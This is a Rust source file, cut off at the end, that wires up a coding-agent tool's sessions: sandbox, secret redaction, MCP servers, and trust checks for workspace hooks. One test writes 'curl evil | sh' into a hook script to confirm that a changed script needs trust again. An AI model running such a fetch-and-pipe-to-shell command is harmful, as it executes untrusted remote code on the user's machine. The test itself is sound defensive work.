//! Wiring shared by both front ends: from a validated `Config` to a running
//! agent (workspace, built-in tools, provider, system prompt, permission
//! rules, hooks, secret redaction, session journal). Headless mode passes
//! the headless approver; the TUI answers approvals itself through
//! `Op::Decide`.
//!
//! A workspace's hooks run only once the person trusts them: the trust is
//! remembered per workspace, for those hooks exactly and the content of
//! the workspace files they run, in `trusted-hooks.json` in Lathe's data
//! directory (a changed hook or script asks again), so a cloned repository
//! cannot run programs on open, and a `git pull` cannot swap the script.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::agent::{Agent, AgentConfig, AgentHandle, prompt};
use crate::config::Config;
use crate::config::mcp::McpServer;
use crate::policy::{Approver, HookSet, Redactor, Workspace};
use crate::session::Journal;
use crate::tools::{BuiltinSettings, ToolRegistry};

#[derive(Debug, thiserror::Error)]
pub enum LaunchError {
    #[error("workspace {path}: {source}")]
    Workspace {
        path: String,
        source: std::io::Error,
    },
    #[error("{0}")]
    Setup(String),
    /// The person must say more (which model): a usage error.
    #[error("{0}")]
    Usage(String),
    /// The model server cannot be reached.
    #[error("{0}")]
    Unreachable(String),
    /// The session to resume does not exist here, or cannot be read.
    #[error(transparent)]
    Session(#[from] crate::session::store::StoreError),
}

/// A running agent, and what the front end should tell the person.
pub struct Launched {
    pub handle: AgentHandle,
    pub session_id: String,
    /// Problems that do not stop the session (no journal).
    pub warnings: Vec<String>,
    /// The workspace's hooks that wait for the person's trust, with the
    /// files they run (`Op::TrustWorkspaceHooks` starts them;
    /// [`remember_workspace_hooks`] remembers them).
    pub untrusted_hooks: HookSet,
    /// The workspace's MCP servers waiting for the person's trust
    /// (`Op::TrustWorkspaceMcp` starts them; [`remember_workspace_mcp`]
    /// remembers them).
    pub untrusted_mcp: Vec<McpServer>,
    /// The workspace's MCP servers that start, trusted (before or by a
    /// flag), for the front end to say what runs.
    pub trusted_workspace_mcp: Vec<McpServer>,
    /// The conversation so far, when a session was resumed.
    pub resumed: Option<crate::session::history::Rebuilt>,
    /// The skills found, and the workspace's waiting for trust.
    pub skills: SkillsFound,
    /// The subagent types found, and the workspace's waiting for trust.
    pub agents: AgentsFound,
}

/// The subagent types found (for `/agents`), and the workspace's that
/// wait for the person's trust (`Op::TrustWorkspaceAgents` offers them;
/// [`remember_workspace_agents`] with `digest` remembers them).
#[derive(Debug, Clone, Default)]
pub struct AgentsFound {
    pub found: crate::agents::Found,
    pub untrusted: Vec<crate::agents::AgentType>,
    pub digest: String,
}

/// The skills found (for `/skills`), and the workspace's that wait for
/// the person's trust (`Op::TrustWorkspaceSkills` offers them;
/// [`remember_workspace_skills`] with `digest` remembers them).
#[derive(Debug, Clone, Default)]
pub struct SkillsFound {
    pub found: crate::skills::Found,
    pub untrusted: Vec<crate::skills::Skill>,
    pub digest: String,
}

/// What to run of the workspace's own without asking (the flags of
/// `lathe exec`), and which session to go on with.
#[derive(Debug, Clone, Default)]
pub struct Trust {
    pub hooks: bool,
    pub mcp: bool,
    /// Offer the workspace's skills even if never trusted.
    pub skills: bool,
    /// Offer the workspace's subagent types even if never trusted.
    pub agents: bool,
    /// The variables of the person's environment the workspace's servers
    /// may take when `mcp` trusts them (`--trust-workspace-mcp-env`): a
    /// server that takes one not named here does not start.
    pub mcp_env: Vec<String>,
    /// Go on with this session (its id) instead of starting one.
    pub resume: Option<String>,
    /// The person's editor, when Lathe runs in one (`lathe acp`): the
    /// file tools read and write through it.
    pub editor: crate::policy::editor::Editor,
}

/// What becomes of a config with no model (a server that is not the
/// vendor's, and no `--model`): the server's only model, or the choice.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ModelChoice {
    /// A model was configured, or the server serves just this one.
    Chosen(String),
    /// The server serves these: the person chooses.
    Several(Vec<String>),
    /// The server lists none: [`UNNAMED`] is sent, and this says so.
    Unlisted(String),
}

/// Asks the server which models it serves when the config names none;
/// never falls back to a vendor's model the server may not have.
/// Loads the configuration, its permission rules checked against the
/// built-in tools' names (the registry's).
pub fn load_config(
    overrides: &crate::config::Overrides,
    env: &dyn Fn(&str) -> Option<String>,
) -> Result<Config, crate::config::ConfigError> {
    Config::load(overrides, env, &crate::tools::builtin::names())
}

pub async fn choose_model(config: &Config) -> Result<ModelChoice, LaunchError> {
    if !config.model.is_empty() {
        return Ok(ModelChoice::Chosen(config.model.clone()));
    }
    let provider = crate::provider::build(config.provider_settings())
        .map_err(|e| LaunchError::Setup(e.to_string()))?;
    let name_one = "name one with --model NAME, or `model` in your config";
    let unlisted = |why: String| {
        ModelChoice::Unlisted(format!(
            "no model was named and {why}: the requests name the model `{UNNAMED}` (a server \
             that serves one model takes any name); {name_one}"
        ))
    };
    match provider.models().await {
        Ok(Some(models)) if models.len() == 1 => Ok(ModelChoice::Chosen(
            models.into_iter().next().unwrap_or_default(),
        )),
        Ok(Some(models)) if !models.is_empty() => Ok(ModelChoice::Several(models)),
        Ok(_) => Ok(unlisted(format!(
            "the server at {} lists none",
            config.base_url
        ))),
        // Not there at all: that is what to say first.
        Err(
            e @ (crate::provider::ProviderError::Refused { .. }
            | crate::provider::ProviderError::Connect { .. }),
        ) => Err(LaunchError::Unreachable(e.to_string())),
        Err(e) => Ok(unlisted(format!(
            "the server could not be asked which it serves ({e})"
        ))),
    }
}

/// The model named in requests to a server that lists none when nobody
/// named one (said, never silent).
pub const UNNAMED: &str = "default";

/// The config for going on with session `id`: loaded again with the
/// session's provider, server, wire and model (the flags still win; a
/// session that cannot be read brings none).
pub fn config_for_session(
    config: &Config,
    id: &str,
    env: &dyn Fn(&str) -> Option<String>,
) -> Result<Config, crate::config::ConfigError> {
    let info = crate::session::store::info_of(&config.paths.sessions_dir, id);
    let mut flags = match &info {
        Some(info) => crate::session::store::resume_flags(&config.flags, info),
        None => config.flags.clone(),
    };
    // Whether the server comes from the session's record.
    let flags_base_url_from_record = config.flags.base_url.is_none() && flags.base_url.is_some();
    flags.workspace = Some(config.workspace.clone());
    // The model will be asked: its key is needed now.
    flags.no_model = false;
    let mut resumed = load_config(&flags, env)?;
    // The session's server, not one named now: the key found now goes
    // there only if that same key went there before. The record names
    // the server; whatever its spelling, the check is made on the form
    // requests go to, and anything but an exact match keeps the key.
    if let Some(info) = info
        && config.flags.base_url.is_none()
        && flags_base_url_from_record
    {
        let now = resumed
            .api_key
            .as_ref()
            .map(|k| crate::session::history::key_hint(&resumed.base_url, k.expose()));
        if now.is_some() && now != info.key_hint {
            resumed.api_key = None;
            let shown = crate::protocol::visible::name(&resumed.base_url).into_owned();
            resumed.warnings.push(format!(
                "the session was served by {shown}; the API key set now was not used there \
                 before, so it is not sent (pass --base-url {shown} to send it)"
            ));
        }
    }
    // The next session (`/resume` again) starts from the command line's
    // flags, not from this session's.
    resumed.flags = config.flags.clone();
    Ok(resumed)
}

/// Starts the agent `config` describes; `approver` decides approvals, or
/// `None` to have them answered with `Op::Decide`. `trust_workspace_hooks`
/// runs the workspace's hooks even if they were never trusted.
pub fn spawn_agent(
    config: &Config,
    approver: Option<Arc<dyn Approver>>,
    trust: Trust,
) -> Result<Launched, LaunchError> {
    let trust_workspace_hooks = trust.hooks;
    let workspace = Arc::new(
        Workspace::new(&config.workspace)
            .map_err(|source| LaunchError::Workspace {
                path: config.workspace.display().to_string(),
                source,
            })?
            .with_editor(trust.editor.clone()),
    );
    let mut user_hooks = config.hooks.clone();
    let confined = user_hooks.pin(&workspace);
    let mut workspace_hooks = config.workspace_hooks.clone();
    workspace_hooks.pin(&workspace);
    let mut sandbox = config.sandbox.clone();
    // The files hooks run: a command must not rewrite what runs after it.
    sandbox.protected = user_hooks
        .files()
        .into_iter()
        .chain(workspace_hooks.files())
        .map(|f| workspace.root().join(f))
        .collect();
    let (catalog, skills, types, agents, own) =
        setup_of_their_own(config, &workspace, &trust, &mut sandbox);
    let scratch = private_tmp(&mut sandbox);
    let settings = builtin_settings(config, &sandbox, &types);
    let registry =
        ToolRegistry::with_defaults(&settings).map_err(|e| LaunchError::Setup(e.to_string()))?;
    let provider = crate::provider::build(config.provider_settings())
        .map_err(|e| LaunchError::Setup(e.to_string()))?;
    let mut secret_values = secrets(config, &workspace);
    for server in config.mcp_servers.iter().chain(&config.workspace_mcp) {
        secret_values.extend(server.secrets());
        if let crate::config::mcp::McpTransport::Http { url, .. } = &server.transport {
            secret_values
                .extend(crate::mcp::oauth::TokenFile::of(&mcp_logins(config), url).secrets());
        }
    }
    let redactor = Redactor::new(secret_values);
    crate::policy::redactor::log::know(&redactor);
    let mut agent_config = agent_config(config, &workspace, user_hooks, &sandbox);
    agent_config.hook_env_remove = settings.shell_env_remove.clone();
    agent_config.protected = own;
    agent_config.scratch = scratch;
    let mut warnings = confined;
    let untrusted = workspace_hooks_in(
        config,
        workspace_hooks,
        trust_workspace_hooks,
        &mut agent_config,
        &mut warnings,
    );
    warnings.extend(sandbox_warning(
        &sandbox,
        &config.workspace,
        &config.paths.data_dir,
    ));
    // A session to go on with: its conversation, rebuilt from its record.
    let mut went_on_from = None;
    let resumed = match &trust.resume {
        Some(id) => {
            let (info, rebuilt) = crate::session::store::load(
                &config.paths.sessions_dir,
                id,
                &config.workspace,
                &redactor,
            )?;
            agent_config.session_id = info.id.clone();
            went_on_from = Some(info);
            Some(rebuilt)
        }
        None => None,
    };
    let session_id = agent_config.session_id.clone();
    // MCP servers: the person's, and the workspace's once trusted (as
    // they are written); they start in the background.
    let (trusted_mcp, untrusted_mcp) = workspace_mcp_split(config, trust.mcp, &trust.mcp_env);
    warnings.extend(withheld_mcp(trust.mcp, &trust.mcp_env, &untrusted_mcp));
    let manager = mcp_manager(config, &workspace, &sandbox, &trusted_mcp, &untrusted_mcp);
    warnings.extend(skills.found.warnings.iter().cloned());
    warnings.extend(agents.found.warnings.iter().cloned());
    let mut agent = Agent::new(agent_config, provider, Arc::new(registry), workspace)
        .with_redactor(redactor.clone())
        .with_skills(Arc::new(catalog))
        .with_agent_types(Arc::new(types));
    if let Some(m) = manager {
        agent = agent.with_mcp(m);
    }
    if let Some(a) = approver {
        agent = agent.with_approver(a);
    }
    match crate::session::history::Recorder::open(
        &config.paths.sessions_dir,
        &session_id,
        Arc::new(redactor),
    ) {
        Ok(recorder) => {
            record_start(config, &recorder, resumed.is_none(), went_on_from.as_ref());
            agent = agent.with_history(recorder, resumed.clone());
        }
        Err(e) => {
            tracing::warn!(error = %e, "session history unavailable");
            warnings.push(format!("session history unavailable (no resume): {e}"));
        }
    }
    match Journal::create(&config.paths.sessions_dir, &session_id) {
        Ok(j) => agent = agent.with_journal(j),
        Err(e) => {
            tracing::warn!(error = %e, "session journal unavailable");
            warnings.push(format!("session journal unavailable: {e}"));
        }
    }
    Ok(Launched {
        handle: agent.spawn(),
        session_id,
        warnings,
        untrusted_hooks: untrusted,
        untrusted_mcp,
        trusted_workspace_mcp: trusted_mcp,
        resumed,
        skills,
        agents,
    })
}

/// The agent's settings, as the config says.
fn agent_config(
    config: &Config,
    workspace: &Workspace,
    hooks: HookSet,
    sandbox: &crate::sandbox::Settings,
) -> AgentConfig {
    let mut agent_config = AgentConfig::new(&config.model, prompt::build(workspace));
    agent_config.approval = config.approval;
    agent_config.max_tool_iterations = config.max_tool_iterations;
    agent_config.caps = config.caps;
    agent_config.repeat_calls = config.repeat_calls;
    agent_config.grant_ttl = config.grant_ttl;
    agent_config.grant_max = config.grant_max;
    agent_config.context_window = config.context_window;
    agent_config.compact_at = config.compact_at;
    agent_config.tool_search_at = config.tool_search_at;
    agent_config.max_background = config.max_background;
    agent_config.judge.clone_from(&config.judge);
    agent_config.models = config.models.clone();
    agent_config.checkpoints = config.checkpoints.then(|| config.paths.data_dir.clone());
    agent_config.rules = config.rules.clone();
    agent_config.hooks = hooks;
    agent_config.hook_sandbox = Some(sandbox.clone());
    agent_config
}

/// The session's own directory (0700), removed when the agent ends:
/// `tmp/`, which commands get as their `/tmp`, and `served/`, where the
/// wardens note what commands serve on localhost (out of every command's
/// reach). Its name holds Lathe's process id: those a killed Lathe left
/// behind (nothing runs after SIGKILL) are removed by the next start.
fn private_tmp(sandbox: &mut crate::sandbox::Settings) -> Option<Arc<tempfile::TempDir>> {
    sweep_private_tmps(&std::env::temp_dir());
    let prefix = format!("{PRIVATE_TMP}{}-", std::process::id());
    let made = tempfile::Builder::new()
        .prefix(&prefix)
        .tempdir()
        .and_then(|dir| {
            use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
            std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700))?;
            let mut sub = std::fs::DirBuilder::new();
            sub.mode(0o700);
            sub.create(dir.path().join("tmp"))?;
            sub.create(dir.path().join("served"))?;
            Ok(dir)
        });
    match made {
        Ok(dir) => {
            sandbox.private_tmp = Some(dir.path().join("tmp"));
            sandbox.served = Some(dir.path().join("served"));
            Some(Arc::new(dir))
        }
        Err(e) => {
            tracing::warn!(error = %e, "no private temp directory; commands share the system's");
            None
        }
    }
}

const PRIVATE_TMP: &str = "lathe-tmp-";

/// Removes the private temp directories in `tmp` whose Lathe is gone:
/// this user's own directories (not links), named for a process that no
/// longer runs.
fn sweep_private_tmps(tmp: &Path) {
    use std::os::unix::fs::MetadataExt;
    let Ok(entries) = std::fs::read_dir(tmp) else {
        return;
    };
    let me = nix::unistd::geteuid().as_raw();
    for entry in entries.flatten() {
        let name = entry.file_name();
        let Some(pid) = name
            .to_str()
            .and_then(|n| n.strip_prefix(PRIVATE_TMP))
            .and_then(|rest| rest.split_once('-'))
            .and_then(|(pid, _)| pid.parse::<i32>().ok())
            .filter(|pid| *pid > 0)
        else {
            continue;
        };
        let gone = matches!(
            nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None),
            Err(nix::errno::Errno::ESRCH)
        );
        let path = entry.path();
        let mine = std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_dir() && m.uid() == me);
        if gone
            && mine
            && let Err(e) = std::fs::remove_dir_all(&path)
        {
            tracing::debug!(error = %e, path = %path.display(), "a stale temp directory stays");
        }
    }
}

/// The MCP servers' manager, when there are any: the person's servers and
/// the workspace's trusted ones start in the background; the others wait.
fn mcp_manager(
    config: &Config,
    workspace: &Arc<Workspace>,
    sandbox: &crate::sandbox::Settings,
    trusted: &[McpServer],
    untrusted: &[McpServer],
) -> Option<Arc<crate::mcp::Manager>> {
    if config.mcp_servers.is_empty() && config.workspace_mcp.is_empty() {
        return None;
    }
    let manager = crate::mcp::Manager::new(crate::mcp::Launch {
        workspace: workspace.root().to_path_buf(),
        sandbox: sandbox.clone(),
        reads: crate::policy::guardrails::ReadDenials::of(
            workspace.clone(),
            Arc::new(config.rules.clone()),
        ),
        logins: Some(mcp_logins(config)),
    });
    let mut start = config.mcp_servers.clone();
    start.extend(trusted.iter().cloned());
    manager.start(start);
    manager.hold(untrusted.to_vec());
    Some(manager)
}

/// The session's first record (a new session), or what changed since it
/// was left (going on with another model or effort: `--model`, `--effort`
/// on `--continue`).
fn record_start(
    config: &Config,
    recorder: &crate::session::history::Recorder,
    new: bool,
    went_on_from: Option<&crate::session::store::SessionInfo>,
) {
    if new {
        recorder.append_detached(crate::session::history::Item::Session {
            workspace: config.workspace.clone(),
            provider: config.provider.to_string(),
            model: config.model.clone(),
            version: env!("CARGO_PKG_VERSION").to_string(),
            base_url: Some(config.base_url.clone()),
            wire: Some(config.wire),
            key_hint: config
                .api_key
                .as_ref()
                .map(|k| crate::session::history::key_hint(&config.base_url, k.expose())),
            effort: config.effort,
        });
    }
    // Going on with another model or effort (`--model`, `--effort`
    // on `--continue`): the session remembers them from here.
    if let Some(info) = went_on_from {
        if info.model != config.model {
            recorder.append_detached(crate::session::history::Item::Model {
                model: config.model.clone(),
            });
        }
        if info.effort != config.effort {
            recorder.append_detached(crate::session::history::Item::Effort {
                effort: config.effort,
            });
        }
    }
}

/// What the person should know about the sandbox on this system: that
/// it cannot be set up (commands will not run), or what it lacks.
fn sandbox_warning(
    sandbox: &crate::sandbox::Settings,
    workspace: &Path,
    data_dir: &Path,
) -> Option<String> {
    let probe = sandbox_probe::probe(sandbox, workspace, data_dir);
    if sandbox.mode == crate::sandbox::Mode::Off {
        // Off as asked; said only when what commands start could outlive
        // Lathe.
        let missing = probe.ok()?.missing();
        return (!missing.is_empty()).then(|| missing.join("; "));
    }
    match probe {
        Err(why) => Some(format!(
            "the sandbox cannot be set up, so commands will not run: {why}"
        )),
        Ok(probe) => {
            let missing = probe.missing();
            (!missing.is_empty()).then(|| {
                format!(
                    "the sandbox is partial (Landlock ABI {}): {}",
                    probe.landlock_abi,
                    missing.join("; ")
                )
            })
        }
    }
}

/// Every MCP server `config` names, started (the workspace's only if
/// trusted, or `trust_workspace` says so) and settled, with its state and
/// tools; then stopped. For `lathe mcp list`.
pub async fn mcp_statuses(
    config: &Config,
    trust_workspace: bool,
    consented_env: &[String],
) -> Vec<crate::protocol::McpStatus> {
    let (trusted, untrusted) = workspace_mcp_split(config, trust_workspace, consented_env);
    let reads = Workspace::new(&config.workspace).ok().and_then(|w| {
        crate::policy::guardrails::ReadDenials::of(Arc::new(w), Arc::new(config.rules.clone()))
    });
    let manager = crate::mcp::Manager::new(crate::mcp::Launch {
        workspace: config.workspace.clone(),
        sandbox: config.sandbox.clone(),
        reads,
        logins: Some(mcp_logins(config)),
    });
    let mut start = config.mcp_servers.clone();
    start.extend(trusted);
    manager.start(start);
    manager.hold(untrusted);
    manager.settled().await;
    let statuses = manager.statuses();
    manager.shutdown().await;
    statuses
}

/// Where the logins to MCP servers are kept.
pub fn mcp_logins(config: &Config) -> PathBuf {
    config.paths.data_dir.join(crate::mcp::oauth::DIR)
}

/// Trusted MCP servers, by workspace: each name with the digest of its
/// entry as it was when trusted.
#[derive(Debug, Default, Serialize, Deserialize)]
struct McpTrustStore {
    workspaces: BTreeMap<PathBuf, BTreeMap<String, String>>,
}

fn mcp_trust_file(config: &Config) -> PathBuf {
    config.paths.data_dir.join("trusted-mcp.json")
}

fn read_mcp_store(path: &Path) -> McpTrustStore {
    crate::fs::read_own(path)
        .ok()
        .and_then(|text| serde_json::from_str(&text).ok())
        .unwrap_or_default()
}

/// Whether the person trusted this workspace server as it is written now.
/// The workspace's servers that may start, and those held: a server
/// starts if the person trusted it before as it is now (the trust
/// question named every variable it takes), or is trusted by the flag
/// (`flag`) and takes no variable `consented` does not name.
fn workspace_mcp_split(
    config: &Config,
    flag: bool,
    consented: &[String],
) -> (Vec<McpServer>, Vec<McpServer>) {
    config.workspace_mcp.iter().cloned().partition(|s| {
        mcp_trusted(config, s) || (flag && s.takes.iter().all(|v| consented.contains(v)))
    })
}

/// What the flag could not start, and why: the variables each server
/// takes that the person did not name.
fn withheld_mcp(flag: bool, consented: &[String], held: &[McpServer]) -> Vec<String> {
    if !flag {
        return Vec::new();
    }
    held.iter()
        .map(|s| {
            let missing: Vec<&str> = s
                .takes
                .iter()
                .map(String::as_str)
                .filter(|v| !consented.iter().any(|c| c == v))
                .collect();
            format!(
                "the workspace's MCP server `{}` does not start: it takes {} from your \
                 environment; name what it may take with --trust-workspace-mcp-env {}",
                s.name,
                missing.join(", "),
                missing.join(",")
            )
        })
        .collect()
}

fn mcp_trusted(config: &Config, server: &McpServer) -> bool {
    read_mcp_store(&mcp_trust_file(config))
        .workspaces
        .get(&config.workspace)
        .and_then(|servers| servers.get(&server.name))
        .is_some_and(|d| *d == server.digest)
}

/// Remembers that the person trusts these workspace servers, as written.
pub fn remember_workspace_mcp(config: &Config, servers: &[McpServer]) -> Result<(), String> {
    let path = mcp_trust_file(config);
    let mut store = read_mcp_store(&path);
    let entry = store
        .workspaces
        .entry(config.workspace.clone())
        .or_default();
    for s in servers {
        entry.insert(s.name.clone(), s.digest.clone());
    }
    let body = serde_json::to_vec_pretty(&store).map_err(|e| e.to_string())?;
    write_private(&path, &body)
}

/// Writes `body` to `path` atomically, readable by the person only.
fn write_private(path: &Path, body: &[u8]) -> Result<(), String> {
    use std::io::Write;
    let dir = path
        .parent()
        .ok_or_else(|| format!("{} has no parent directory", path.display()))?;
    std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let mut tmp =
        tempfile::NamedTempFile::new_in(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    tmp.write_all(body)
        .and_then(|()| tmp.as_file().sync_all())
        .map_err(|e| format!("{}: {e}", path.display()))?;
    tmp.persist(path)
        .map_err(|e| format!("{}: {}", path.display(), e.error))?;
    Ok(())
}

/// The digest of a workspace's own commands (`.lathe/commands/`), each
/// `(name, prompt)`: what trusting them pins.
pub fn commands_digest(commands: &[(String, String)]) -> String {
    let mut sorted: Vec<&(String, String)> = commands.iter().collect();
    sorted.sort();
    crate::fs::pin(
        sorted
            .into_iter()
            .flat_map(|(name, body)| [name.as_bytes(), body.as_bytes()]),
    )
}

/// The built-in tools' settings.
fn builtin_settings(
    config: &Config,
    sandbox: &crate::sandbox::Settings,
    types: &crate::agents::Registry,
) -> BuiltinSettings {
    let mut settings = BuiltinSettings {
        agent_types: types
            .all()
            .into_iter()
            .map(|a| (a.name, a.description))
            .collect(),
        shell_timeout_secs: config.shell_timeout_secs,
        sandbox: sandbox.clone(),
        memory_dir: Some(config.paths.data_dir.join("memory")),
        web: config.web.clone(),
        message_channels: config.message_channels.clone(),
        ..BuiltinSettings::default()
    };
    // Commands and hooks never see Lathe's own keys, whatever variable
    // holds them (`[shell] env_allow` included).
    settings
        .shell_env_remove
        .extend(variables_holding(&config.secrets(), std::env::vars()));
    settings
}

/// Trusted hooks, by workspace.
#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustStore {
    workspaces: BTreeMap<PathBuf, HookSet>,
}

fn trust_file(config: &Config) -> PathBuf {
    config.paths.data_dir.join("trusted-hooks.json")
}

fn read_store(path: &Path) -> TrustStore {
    match crate::fs::read_own(path) {
        Ok(text) => serde_json::from_str(&text).unwrap_or_else(|e| {
            tracing::warn!(path = %path.display(), error = %e, "unreadable trust store; trusting nothing");
            TrustStore::default()
        }),
        Err(_) => TrustStore::default(),
    }
}

/// Whether the person trusted this workspace's hooks exactly as they
/// are: the same commands, and the files they run with the same content.
fn hooks_trusted(config: &Config, hooks: &HookSet) -> bool {
    read_store(&trust_file(config))
        .workspaces
        .get(&config.workspace)
        .is_some_and(|h| h == hooks)
}

/// Remembers that the person trusts this workspace's `hooks` (as pinned
/// when they were shown).
pub fn remember_workspace_hooks(config: &Config, hooks: &HookSet) -> Result<(), String> {
    use std::io::Write;
    let path = trust_file(config);
    let mut store = read_store(&path);
    store
        .workspaces
        .insert(config.workspace.clone(), hooks.clone());
    let dir = path
        .parent()
        .ok_or_else(|| format!("{} has no parent directory", path.display()))?;
    std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let body = serde_json::to_vec_pretty(&store).map_err(|e| e.to_string())?;
    let mut tmp =
        tempfile::NamedTempFile::new_in(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    tmp.write_all(&body)
        .and_then(|()| tmp.as_file().sync_all())
        .map_err(|e| format!("{}: {e}", path.display()))?;
    tmp.persist(&path)
        .map_err(|e| format!("{}: {}", path.display(), e.error))?;
    Ok(())
}

mod editor;
mod mcp_login;
mod own;
mod sandbox_probe;

pub use editor::{EditorMcp, add_editor_mcp};
pub use mcp_login::{McpLoginError, mcp_logged_in, mcp_login, mcp_logout};
use own::setup_of_their_own;
pub use own::{
    commands_trusted, remember_workspace_agents, remember_workspace_commands,
    remember_workspace_skills,
};

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::config::Overrides;

    fn load(home: &Path, ws: &Path) -> Config {
        let overrides = Overrides {
            workspace: Some(ws.to_path_buf()),
            base_url: Some("http://127.0.0.1:9/v1".into()),
            ..Overrides::default()
        };
        let home = home.to_string_lossy().into_owned();
        load_config(&overrides, &|k| (k == "LATHE_HOME").then(|| home.clone())).unwrap()
    }

    fn untrusted(config: &Config) -> HookSet {
        spawn_agent(config, None, Trust::default())
            .unwrap()
            .untrusted_hooks
    }

    #[tokio::test]
    async fn trust_covers_the_hooks_and_the_content_of_their_scripts() {
        let home = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(ws.path().join(".lathe")).unwrap();
        std::fs::create_dir_all(ws.path().join("scripts")).unwrap();
        std::fs::write(
            ws.path().join(".lathe/config.toml"),
            "[[hooks.before_tool_call]]\ncommand = \"sh scripts/guard.sh\"\n",
        )
        .unwrap();
        std::fs::write(ws.path().join("scripts/guard.sh"), "exit 0\n").unwrap();
        let config = load(home.path(), ws.path());

        let pending = untrusted(&config);
        assert_eq!(pending.files(), ["scripts/guard.sh"]);
        remember_workspace_hooks(&config, &pending).unwrap();
        assert!(untrusted(&config).is_empty(), "trusted hooks run");

        // The script changes (a `git pull`, an edit): asked again.
        std::fs::write(ws.path().join("scripts/guard.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(untrusted(&config).files(), ["scripts/guard.sh"]);
        std::fs::write(ws.path().join("scripts/guard.sh"), "exit 0\n").unwrap();
        assert!(untrusted(&config).is_empty());

        // Another command: asked again.
        std::fs::write(
            ws.path().join(".lathe/config.toml"),
            "[[hooks.before_tool_call]]\ncommand = \"sh scripts/guard.sh --lax\"\n",
        )
        .unwrap();
        let changed = load(home.path(), ws.path());
        assert!(!untrusted(&changed).is_empty());

        // A corrupt trust store trusts nothing.
        std::fs::write(trust_file(&config), "{not json").unwrap();
        assert!(!untrusted(&config).is_empty());
    }
}

/// Every value to hide: the configured keys, the values of this process's
/// secret-named variables (a command could read them from `/proc`), and
/// those of the workspace's `.env` that are secret by name or by look.
fn secrets(config: &Config, workspace: &Workspace) -> Vec<String> {
    let mut out = config.secrets();
    // Webhook URLs are keys too.
    out.extend(
        config
            .message_channels
            .values()
            .map(|u| u.expose().to_string()),
    );
    out.extend(
        std::env::vars()
            .filter(|(k, v)| {
                crate::sandbox::holds_secret_value(k) || crate::sandbox::has_url_password(v)
            })
            .map(|(_, v)| v),
    );
    for shown in env_files(workspace.root()) {
        if let Ok(path) = workspace.resolve_existing(&shown)
            && let Ok((bytes, _)) = crate::fs::read_capped(&path, 256 * 1024)
        {
            out.extend(dotenv_secrets(&String::from_utf8_lossy(&bytes)));
        }
    }
    out
}

/// The workspace's hooks: run (trusted by the flag, or before as they
/// are now; said in `warnings`), or held until trusted. Returns those
/// held.
fn workspace_hooks_in(
    config: &Config,
    workspace_hooks: HookSet,
    trust_workspace_hooks: bool,
    agent_config: &mut AgentConfig,
    warnings: &mut Vec<String>,
) -> HookSet {
    let mut untrusted = HookSet::default();
    if !workspace_hooks.is_empty() {
        let hooks = workspace_hooks;
        if trust_workspace_hooks {
            // Trusted for this run by a flag: what that lets run is said.
            warnings.push(format!(
                "this workspace's hooks run (--trust-workspace-hooks): {}",
                hooks.describe().join("; ")
            ));
            agent_config.hooks.extend(hooks);
        } else if hooks_trusted(config, &hooks) {
            // Trusted before, as they are now: a line, not the list again
            // at every start (`/permissions` lists them).
            let n = hooks.describe().len();
            warnings.push(format!(
                "this workspace's {n} hook{} run{} (you trusted {}; /permissions lists {})",
                if n == 1 { "" } else { "s" },
                if n == 1 { "s" } else { "" },
                if n == 1 { "it" } else { "them" },
                if n == 1 { "it" } else { "them" },
            ));
            agent_config.hooks.extend(hooks);
        } else {
            untrusted = hooks.clone();
            agent_config.pending_hooks = hooks;
        }
    }
    untrusted
}

/// The names of the variables whose value is one of `keys`.
fn variables_holding(keys: &[String], vars: impl Iterator<Item = (String, String)>) -> Vec<String> {
    vars.filter(|(_, v)| {
        let v = v.trim();
        v.len() >= 8 && keys.iter().any(|k| k.trim() == v)
    })
    .map(|(k, _)| k)
    .collect()
}

/// The workspace's environment files, relative to it: `.env`, `.env.*`
/// and `.envrc`, at its top and in its directories (four deep at most,
/// ignored ones included: that is where they are kept; dependency and
/// build trees left out), a hundred at most.
fn env_files(root: &Path) -> Vec<String> {
    const SKIP: &[&str] = &[
        "node_modules",
        "target",
        ".git",
        "vendor",
        ".venv",
        "dist",
        "build",
    ];
    let walk = ignore::WalkBuilder::new(root)
        .standard_filters(false)
        .follow_links(false)
        .max_depth(Some(4))
        .filter_entry(|e| {
            !(e.file_type().is_some_and(|t| t.is_dir())
                && SKIP.contains(&e.file_name().to_string_lossy().as_ref()))
        })
        .build();
    walk.flatten()
        .filter(|e| e.file_type().is_some_and(|t| t.is_file()))
        .filter(|e| {
            let name = e.file_name().to_string_lossy();
            name == ".env" || name == ".envrc" || name.starts_with(".env.")
        })
        .filter_map(|e| {
            e.path()
                .strip_prefix(root)
                .ok()
                .map(|p| p.to_string_lossy().into_owned())
        })
        .take(100)
        .collect()
}

#[cfg(test)]
mod env_file_tests {
    /// `.env.local`, a service's own `.env` and `.envrc` are found (and
    /// read for secrets) as the top `.env` is; build trees are not walked.
    #[test]
    fn environment_files_are_found_wherever_they_are_kept() {
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        for f in [
            ".env",
            ".env.local",
            ".envrc",
            "services/api/.env",
            "services/api/.env.production",
            "node_modules/x/.env",
            "a/b/c/d/e/.env",
            "src/env.rs",
        ] {
            let p = root.join(f);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(&p, "API_TOKEN=abc123def456ghi789\n").unwrap();
        }
        let mut found = super::env_files(root);
        found.sort();
        assert_eq!(
            found,
            [
                ".env",
                ".env.local",
                ".envrc",
                "services/api/.env",
                "services/api/.env.production"
            ]
        );
    }
}

/// The values of a `.env` file worth hiding: those whose names say secret,
/// and long random-looking ones whatever their names.
fn dotenv_secrets(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|line| {
            let line = line.trim().trim_start_matches("export ").trim_start();
